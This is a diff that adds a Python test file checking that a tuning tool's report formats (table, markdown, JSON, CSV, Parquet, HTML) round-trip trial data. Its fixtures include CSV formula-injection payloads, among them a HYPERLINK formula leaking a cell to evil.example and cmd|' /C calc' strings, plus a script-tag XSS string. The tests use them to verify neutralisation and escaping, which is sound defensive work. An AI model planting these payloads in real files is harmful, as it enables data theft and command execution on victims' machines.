@@ -1,0 +1,145 @@
+"""Every report format parses back to the same ranked trials (on experiment directories written file by file)."""
+
+import csv
+import json
+import math
+import re
+from html.parser import HTMLParser
+
+import pyarrow.csv as pacsv
+import pyarrow.parquet as pq
+import pytest
+
+from tests.tuning.report.test_report import make_experiment
+from tuning.errors import UserError
+from tuning.report.formats import render, results_path, write
+from tuning.report.text import human_bytes
+from tuning.report.load import load_report
+
+
+@pytest.fixture
+def report(tmp_path):
+    exp = make_experiment(tmp_path / "e", {
+        "a": ("TERMINATED", [0.5, 0.4, 0.3], {"checkpoint_000002/checkpoint.ckpt": "x" * 2048}),
+        "b": ("TERMINATED", [0.6], {}),
+        "c": ("ERROR", [math.nan], {"error.txt": "Traceback\nValueError: lr | bad\n"}),
+    })
+    return load_report(str(exp))
+
+
+def test_table_columns_and_notes(report):
+    lines = render(report, "table").splitlines()
+    header = lines[3].split()
+    assert header[:5] == ["rank", "trial", "status", "val_loss", "epoch"] and "node" in header and "ckpts" in header
+    rows = [line.split() for line in lines[4:7]]
+    assert [r[:3] for r in rows] == [["1", "a", "completed"], ["2", "b", "stopped_early@1"], ["3", "c", "errored"]]
+    assert rows[0][header.index("ckpts")] == "1/2.0K"
+    assert "c: ValueError: lr | bad" in lines and any(line.startswith("compute: 5.0 trial-s") for line in lines)
+
+
+def test_markdown_rows_parse_back(report):
+    rows = [line for line in render(report, "markdown").splitlines() if line.startswith("|")]
+    cells = [[c.strip() for c in row.strip("|").split(" | ")] for row in rows]
+    assert {len(c) for c in cells} == {len(cells[0])}  # the "|" inside the error is escaped
+    assert [c[1] for c in cells[2:]] == ["a", "b", "c"]
+
+
+def test_json_parses_back(report):
+    data = json.loads(render(report, "json", top=2))
+    assert [(t["rank"], t["trial_id"], t["metric"]) for t in data["trials"]] == [(1, "a", 0.3), (2, "b", 0.6)]
+    assert data["compute"]["trial_s"] == 5.0  # the errored trial ran 1 s too
+
+
+@pytest.mark.parametrize("fmt, read", [("csv", pacsv.read_csv), ("parquet", pq.read_table)])
+def test_csv_and_parquet_write_the_trials_and_every_result(report, tmp_path, fmt, read):
+    out = tmp_path / f"r.{fmt}"
+    assert write(report, fmt, None, str(out)) == [str(out), str(results_path(str(out)))]
+    trials, results = read(out).to_pylist(), read(tmp_path / f"r_results.{fmt}").to_pylist()
+    assert [(t["rank"], t["trial_id"], t["status"], t["val_loss"]) for t in trials] == \
+        [(1, "a", "completed", 0.3), (2, "b", "stopped_early", 0.6), (3, "c", "errored", None)]
+    assert trials[0]["model.init_args.lr"] == 0.1 and trials[0]["checkpoint_bytes"] == 2048
+    assert [(r["trial_id"], r["training_iteration"]) for r in results] == [("a", 1), ("a", 2), ("a", 3), ("b", 1),
+                                                                          ("c", 1)]
+    nan = results[4]["val_loss"]
+    assert results[2]["val_loss"] == 0.3 and (nan is None or math.isnan(nan))  # CSV has no NaN: read as null
+
+
+def test_parquet_needs_an_output_file(report):
+    with pytest.raises(UserError, match="--format parquet: needs --output"):
+        write(report, "parquet", None, None)
+
+
+class _Tags(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags, self.text = [], []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def test_html_is_one_self_contained_page(report):
+    page = render(report, "html", importance={"trials": 2, "note": "needs at least 4 trials"})
+    parser = _Tags()
+    parser.feed(page)
+    assert parser.tags.count("svg") == 3  # curves, parallel coordinates, one scatter (lr)
+    assert "ValueError: lr | bad" in parser.text and "needs at least 4 trials" in parser.text
+    assert not any(tag in parser.tags for tag in ("link", "img", "iframe")) and "src=" not in page
+    assert "http://" not in page and "https://" not in page
+
+
+def test_human_bytes():
+    assert [human_bytes(n) for n in (0, 1023, 1536, 5 * 1024 ** 3)] == ["0B", "1023B", "1.5K", "5.0G"]
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """Trials whose string params could run as spreadsheet formulas, next to plain negative numbers."""
+    trials = {f"t{i}": ("TERMINATED", [0.1 * (i + 1)], {},
+                        {"model.init_args.act": text, "model.init_args.shift": -0.5 - i, "model.init_args.tag": "-1.5"})
+              for i, text in enumerate(HOSTILE)}
+    trials["t9"] = ("ERROR", [0.9], {"error.txt": "Traceback\nValueError: <script>alert(1)</script> a|b & c\\|\n"},
+                    {"model.init_args.act": "relu", "model.init_args.shift": 2.0, "model.init_args.tag": "ok"})
+    space = {f"model.init_args.{key}": {"choice": [0]} for key in ("act", "shift", "tag")}
+    return load_report(str(make_experiment(tmp_path / "e", trials, space=space)))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile, tmp_path):
+    out = tmp_path / "r.csv"
+    write(hostile, "csv", None, str(out))
+    rows = {r["trial_id"]: r for r in pacsv.read_csv(out).to_pylist()}
+    for i, text in enumerate(HOSTILE):
+        assert rows[f"t{i}"]["model.init_args.act"] == "'" + text  # OWASP: a leading single quote
+        assert rows[f"t{i}"]["model.init_args.shift"] == -0.5 - i  # numbers stay numbers
+        assert rows[f"t{i}"]["model.init_args.tag"] == "-1.5"  # a plain number in a text column: no quote
+    assert rows["t9"]["model.init_args.act"] == "relu" and rows["t9"]["model.init_args.shift"] == 2.0
+    with open(out, newline="") as raw:  # what a spreadsheet gets: every cell, as text
+        cells = [cell for row in csv.reader(raw) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", cell)]
+    assert render(hostile, "csv") == out.read_bytes().decode()  # printed the same way
+
+
+def test_csv_column_names_are_neutralised_too(tmp_path):
+    exp = make_experiment(tmp_path / "e", {"a": ("TERMINATED", [0.5], {}, {"=cmd|'/C calc'!A0": "x"})},
+                          space={"=cmd|'/C calc'!A0": {"choice": ["x"]}})
+    header = render(load_report(str(exp)), "csv").splitlines()[0]
+    names = next(csv.reader([header]))
+    assert "'=cmd|'/C calc'!A0" in names and not any(name.startswith("=") for name in names)
+
+
+def test_markdown_escapes_html_and_pipes(hostile):
+    text = render(hostile, "markdown")
+    assert "<script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "&amp; c" in text
+    rows = [line for line in text.splitlines() if line.startswith("|")]
+    cells = [re.split(r"(?<!\\) \| ", row.strip("|").strip()) for row in rows]
+    assert {len(c) for c in cells} == {len(cells[0])}, "no cell spills into the next"
+    assert not re.search(r"(?<!\\)\|", "".join(c for r in cells for c in r)), "every pipe inside a cell is escaped"
